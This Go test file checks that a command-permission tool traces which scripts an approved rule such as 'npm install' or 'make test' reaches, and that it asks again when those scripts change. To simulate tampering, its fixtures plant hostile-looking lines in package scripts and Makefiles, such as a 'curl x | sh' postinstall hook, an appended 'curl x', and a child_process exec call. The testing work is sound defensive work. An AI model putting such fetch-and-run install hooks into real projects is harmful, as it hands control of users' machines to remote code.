// SPDX-License-Identifier: Apache-2.0

package verdict

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"memo.dev/projects/domain/permissions/internal/fixture"
	"memo.dev/projects/domain/permissions/projectfiles"
)

const packageJSON = `{"scripts": {
  "test": "npm run lint && jest --ci",
  "lint": "eslint .",
  "pretest": "tsc --noEmit",
  "build": "run-s build:*",
  "build:js": "tsc",
  "build:css": "sass x",
  "prepare": "husky",
  "unrelated": "node x.js"
}}`

// What each kind of rule reaches.
func TestDefinitionsReached(t *testing.T) {
	root := fixture.Repo(t, fixture.CleanConfig)
	fixture.Write(t, filepath.Join(root, "package.json"), packageJSON, 0o644)
	fixture.Write(t, filepath.Join(root, "Makefile"), "include common.mk\n-include $(X).mk\ntest:\n\tgo test\n", 0o644)
	fixture.Write(t, filepath.Join(root, "common.mk"), "X=1\n", 0o644)
	fixture.Write(t, filepath.Join(root, "justfile"), "test:\n  cargo test\n", 0o644)
	fixture.Write(t, filepath.Join(root, "Taskfile.yml"), "version: '3'\n", 0o644)
	fixture.Write(t, filepath.Join(root, ".cargo", "config.toml"), "[alias]\nxtask = \"run --package xtask --\"\nx2 = \"xtask\"\n", 0o644)
	fixture.Write(t, filepath.Join(root, "scripts", "test.sh"), "#!/bin/sh\necho\n", 0o755)
	fixture.Write(t, filepath.Join(root, "cmd", "gen", "main.go"), "package main\n", 0o644)
	fixture.Write(t, filepath.Join(root, "cmd", "gen", "main_test.go"), "package main\n", 0o644)
	p := NewProject(root, "", projectfiles.OSGitFS(""), nil)
	cases := map[string]string{
		"npm test":                 "package.json#scripts.lint package.json#scripts.postlint(absent) package.json#scripts.posttest(absent) package.json#scripts.prelint(absent) package.json#scripts.pretest package.json#scripts.test",
		"npm run build":            "package.json#scripts.build package.json#scripts.build:css package.json#scripts.build:js package.json#scripts.postbuild(absent) package.json#scripts.postbuild:css(absent) package.json#scripts.postbuild:js(absent) package.json#scripts.prebuild(absent) package.json#scripts.prebuild:css(absent) package.json#scripts.prebuild:js(absent)",
		"pnpm lint":                "package.json#scripts.lint package.json#scripts.postlint(absent) package.json#scripts.prelint(absent)",
		"make test":                "GNUmakefile#(absent) Makefile# common.mk# makefile#(absent)",
		"just test":                "justfile# rust-toolchain#(absent) rust-toolchain.toml#(absent)", // its recipe runs cargo test
		"task build":               "Taskfile.yml#",
		"cargo x2":                 ".cargo/config.toml#alias.x2 .cargo/config.toml#alias.xtask rust-toolchain#(absent) rust-toolchain.toml#(absent)",
		"cargo nextest run":        ".cargo/config.toml#alias.nextest(absent) .config/nextest.toml#(absent) rust-toolchain#(absent) rust-toolchain.toml#(absent)",
		"cargo build":              "rust-toolchain#(absent) rust-toolchain.toml#(absent)",
		"./scripts/test.sh":        "scripts/test.sh#",
		"bash scripts/test.sh":     "scripts/test.sh#",
		"go run ./cmd/gen":         "cmd/gen/main.go#",
		"git status":               "",
		"uv run ./scripts/test.sh": "scripts/test.sh#",
	}
	for rule, want := range cases {
		defs, problem := p.Definitions(rule)
		if !problem.IsZero() {
			t.Errorf("%s: problem %s", rule, problem)
		}
		if got := fixture.Keys(defs); got != want {
			t.Errorf("%s reaches\n got %s\nwant %s", rule, got, want)
		}
	}
	all, _ := p.Definitions("npm run")
	if !strings.Contains(fixture.Keys(all), "scripts.unrelated") || !strings.Contains(fixture.Keys(all), "scripts.prepare") {
		t.Errorf("npm run reaches %s, want every script", fixture.Keys(all))
	}
	install, _ := p.Definitions("npm ci")
	if !strings.Contains(fixture.Keys(install), "package.json#scripts.prepare ") {
		t.Errorf("npm ci reaches %s, want the lifecycle scripts", fixture.Keys(install))
	}
	// A script that is missing, or outside the project, asks.
	for _, rule := range []string{"bash scripts/missing.sh", "just test"} {
		q := p
		if rule == "just test" {
			os.Remove(filepath.Join(root, "justfile"))
		}
		if _, problem := q.Definitions(rule); problem.IsZero() {
			t.Errorf("%s: no problem, want the missing file named", rule)
		}
	}
}

// A rule that selects workspace packages reaches their scripts too.
func TestDefinitionsInWorkspaces(t *testing.T) {
	root := fixture.Repo(t, fixture.CleanConfig)
	fixture.Write(t, filepath.Join(root, "package.json"), `{"workspaces": ["packages/*"], "scripts": {"build": "turbo build"}}`, 0o644)
	fixture.Write(t, filepath.Join(root, "pnpm-workspace.yaml"), "packages:\n  - 'apps/*'\n", 0o644)
	fixture.Write(t, filepath.Join(root, "packages", "web", "package.json"), `{"scripts": {"build": "vite build"}}`, 0o644)
	fixture.Write(t, filepath.Join(root, "apps", "api", "package.json"), `{"scripts": {"build": "tsc"}}`, 0o644)
	p := NewProject(root, "", projectfiles.OSGitFS(""), nil)
	defs, _ := p.Definitions("pnpm --filter=web build")
	got := fixture.Keys(defs)
	for _, want := range []string{"package.json#scripts.build", "packages/web/package.json#scripts.build", "apps/api/package.json#scripts.build"} {
		if !strings.Contains(got, want) {
			t.Errorf("pnpm --filter=web build reaches %s, want %s", got, want)
		}
	}
	// The root's build runs turbo build, which runs every member's build
	// (definitions_follow.go); a root build that does not reaches none.
	if defs, _ := p.Definitions("pnpm build"); !strings.Contains(fixture.Keys(defs), "packages/web/package.json#scripts.build") {
		t.Errorf("pnpm build, whose script is turbo build, reaches %s, want the members' builds", fixture.Keys(defs))
	}
	fixture.Write(t, filepath.Join(root, "package.json"), `{"workspaces": ["packages/*"], "scripts": {"build": "tsc -b"}}`, 0o644)
	if defs, _ := NewProject(root, "", projectfiles.OSGitFS(""), nil).Definitions("pnpm build"); strings.Contains(fixture.Keys(defs), "packages/") {
		t.Errorf("pnpm build reaches other packages: %s", fixture.Keys(defs))
	}
}

// An install in a workspace runs every member's install scripts: they are
// pinned with the rule, so a member's changed or added postinstall, or a
// member added later with one, asks until trusted again; a member's test
// script is not the install's.
func TestWorkspaceInstallPinsTheMembers(t *testing.T) {
	for _, rule := range []string{"pnpm install", "npm install", "npm ci", "yarn install", "bun install"} {
		t.Run(rule, func(t *testing.T) {
			root := fixture.Repo(t, fixture.CleanConfig)
			fixture.Write(t, filepath.Join(root, "package.json"), `{"workspaces": ["packages/*"], "scripts": {"postinstall": "husky"}}`, 0o644)
			fixture.Write(t, filepath.Join(root, "pnpm-workspace.yaml"), "packages:\n  - 'packages/*'\n", 0o644)
			fixture.Write(t, filepath.Join(root, "packages", "web", "package.json"), `{"scripts": {"postinstall": "node setup.js", "test": "vitest"}}`, 0o644)
			fixture.Write(t, filepath.Join(root, "packages", "web", "setup.js"), "", 0o644)
			rules := []string{rule}
			p := NewProject(root, "", projectfiles.OSGitFS(""), nil)
			pinned := p.WithPinned(p.AllDefinitions(rules))
			if v := NewChecker(rules).CheckIn(rule, pinned); !v.Approved {
				t.Fatalf("%s right after trust asks: %s", rule, v.Reason)
			}
			for _, c := range []struct{ file, content string }{
				{"packages/web/package.json", `{"scripts": {"postinstall": "curl x | sh", "test": "vitest"}}`},
				{"packages/web/package.json", `{"scripts": {"postinstall": "node setup.js", "prepare": "id", "test": "vitest"}}`},
				{"packages/web/setup.js", "require('child_process').exec('id')"},
				{"packages/api/package.json", `{"scripts": {"preinstall": "id"}}`},
			} {
				path := filepath.Join(root, filepath.FromSlash(c.file))
				old, err := os.ReadFile(path)
				fixture.Write(t, path, c.content, 0o644)
				if v := NewChecker(rules).CheckIn(rule, pinned); v.Approved {
					t.Errorf("%s approved after %s became %q, want it to ask", rule, c.file, c.content)
				}
				if err == nil {
					fixture.Write(t, path, string(old), 0o644)
				} else {
					os.RemoveAll(filepath.Dir(path))
				}
			}
			fixture.Write(t, filepath.Join(root, "packages", "web", "package.json"), `{"scripts": {"postinstall": "node setup.js", "test": "jest"}}`, 0o644)
			if v := NewChecker(rules).CheckIn(rule, pinned); !v.Approved {
				t.Errorf("%s asks after a member's test script changed (%s), want it approved", rule, v.Reason)
			}
		})
	}
}

// A workspace's ** reaches members at any depth, as the package managers'
// globs do: a member ten folders down is pinned like the others (it was
// not: past eight folders a member's install scripts ran unpinned). A **
// over more folders than Memo walks, or more members than it pins, makes
// the install ask.
func TestWorkspaceInstallPinsDeepMembers(t *testing.T) {
	deep := "apps/a/b/c/d/e/f/g/h/i/j"
	for _, rule := range []string{"pnpm install", "npm install", "yarn install"} {
		t.Run(rule, func(t *testing.T) {
			root := fixture.Repo(t, fixture.CleanConfig)
			fixture.Write(t, filepath.Join(root, "package.json"), `{"workspaces": ["apps/**"]}`, 0o644)
			fixture.Write(t, filepath.Join(root, "pnpm-workspace.yaml"), "packages:\n  - 'apps/**'\n", 0o644)
			fixture.Write(t, filepath.Join(root, filepath.FromSlash(deep), "package.json"), `{"scripts": {"test": "vitest"}}`, 0o644)
			rules := []string{rule}
			p := NewProject(root, "", projectfiles.OSGitFS(""), nil)
			pinned := p.WithPinned(p.AllDefinitions(rules))
			if v := NewChecker(rules).CheckIn(rule, pinned); !v.Approved {
				t.Fatalf("%s right after trust asks: %s", rule, v.Reason)
			}
			fixture.Write(t, filepath.Join(root, filepath.FromSlash(deep), "package.json"), `{"scripts": {"postinstall": "curl x | sh", "test": "vitest"}}`, 0o644)
			if v := NewChecker(rules).CheckIn(rule, pinned); v.Approved {
				t.Errorf("%s approved after %s/package.json gained a postinstall, want it to ask", rule, deep)
			}
		})
	}
	root := fixture.Repo(t, fixture.CleanConfig)
	fixture.Write(t, filepath.Join(root, "package.json"), `{"workspaces": ["apps/**"]}`, 0o644)
	for i := range 4100 {
		if err := os.MkdirAll(filepath.Join(root, "apps", fmt.Sprint(i%50), fmt.Sprint(i)), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	rules := []string{"npm install"}
	p := NewProject(root, "", projectfiles.OSGitFS(""), nil)
	v := NewChecker(rules).CheckIn("npm install", p.WithPinned(p.AllDefinitions(rules)))
	wantVerdict(t, "npm install of a ** over 4100 folders", v, "more folders or members than Memo reads")
}

// A change to what a rule runs makes its lines ask, naming the file, until
// trusted again; what the rule does not reach does not.
func TestChangedDefinitionsAsk(t *testing.T) {
	root := fixture.Repo(t, fixture.CleanConfig)
	fixture.Write(t, filepath.Join(root, "package.json"), packageJSON, 0o644)
	fixture.Write(t, filepath.Join(root, "scripts", "lint.sh"), "#!/bin/sh\n", 0o755)
	fixture.Write(t, filepath.Join(root, "Makefile"), "test:\n\tgo test\n", 0o644)
	rules := []string{"npm test", "./scripts/lint.sh", "make test", "git status"}
	pinned := func() *projectfiles.Project {
		p := NewProject(root, "", projectfiles.OSGitFS(""), nil)
		return p.WithPinned(p.AllDefinitions(rules))
	}
	p := pinned()
	for _, line := range []string{"npm test", "./scripts/lint.sh", "make test", "git status"} {
		if v := NewChecker(rules).CheckIn(line, p); !v.Approved {
			t.Errorf("%s right after trust: %+v", line, v)
		}
	}
	changes := []struct {
		file, content, line, key string
	}{
		{"package.json", strings.Replace(packageJSON, "jest --ci", "jest --ci; curl x", 1), "npm test", "scripts.test"},
		{"package.json", strings.Replace(packageJSON, `"lint": "eslint ."`, `"lint": "eslint .", "posttest": "x"`, 1), "npm test", "scripts.posttest"},
		{"scripts/lint.sh", "#!/bin/sh\nid\n", "./scripts/lint.sh", ""},
		{"Makefile", "test:\n\tcurl x\n", "make test", ""},
	}
	for _, c := range changes {
		old, _ := os.ReadFile(filepath.Join(root, c.file))
		fixture.Write(t, filepath.Join(root, c.file), c.content, 0o755)
		v := NewChecker(rules).CheckIn(c.line, p)
		if v.Approved || v.BlockedBy == nil || v.BlockedBy.File != c.file || v.BlockedBy.Key != c.key || !strings.Contains(v.Reason.String(), "trust") {
			t.Errorf("%s after %s changed: %+v, want it to ask naming %s %s", c.line, c.file, v, c.file, c.key)
		}
		if v := NewChecker(rules).CheckIn("git status", p); !v.Approved {
			t.Errorf("git status after %s changed: %+v", c.file, v)
		}
		if v := NewChecker(rules).CheckIn(c.line, pinned()); !v.Approved {
			t.Errorf("%s trusted again: %+v", c.line, v)
		}
		fixture.Write(t, filepath.Join(root, c.file), string(old), 0o755)
	}
	// An unrelated script changes nothing.
	fixture.Write(t, filepath.Join(root, "package.json"), strings.Replace(packageJSON, "node x.js", "node y.js", 1), 0o644)
	if v := NewChecker(rules).CheckIn("npm test", p); !v.Approved {
		t.Errorf("npm test after an unrelated script changed: %+v", v)
	}
	// A pin older than definitions: rules that run some ask, others not.
	old := NewProject(root, "", projectfiles.OSGitFS(""), nil).WithPinned(nil)
	if v := NewChecker(rules).CheckIn("npm test", old); v.Approved || !strings.Contains(v.Reason.String(), "before Memo pinned") {
		t.Errorf("npm test on a pin without definitions: %+v", v)
	}
	if v := NewChecker(rules).CheckIn("git status", old); !v.Approved {
		t.Errorf("git status on a pin without definitions: %+v", v)
	}
	// A script replaced by a link to elsewhere is no longer the project's.
	outside := filepath.Join(t.TempDir(), "x.sh")
	fixture.Write(t, outside, "#!/bin/sh\n", 0o755)
	os.Remove(filepath.Join(root, "scripts", "lint.sh"))
	if err := os.Symlink(outside, filepath.Join(root, "scripts", "lint.sh")); err == nil {
		if v := NewChecker(rules).CheckIn("./scripts/lint.sh", p); v.Approved {
			t.Errorf("a script linked to elsewhere: %+v", v)
		}
	}
}
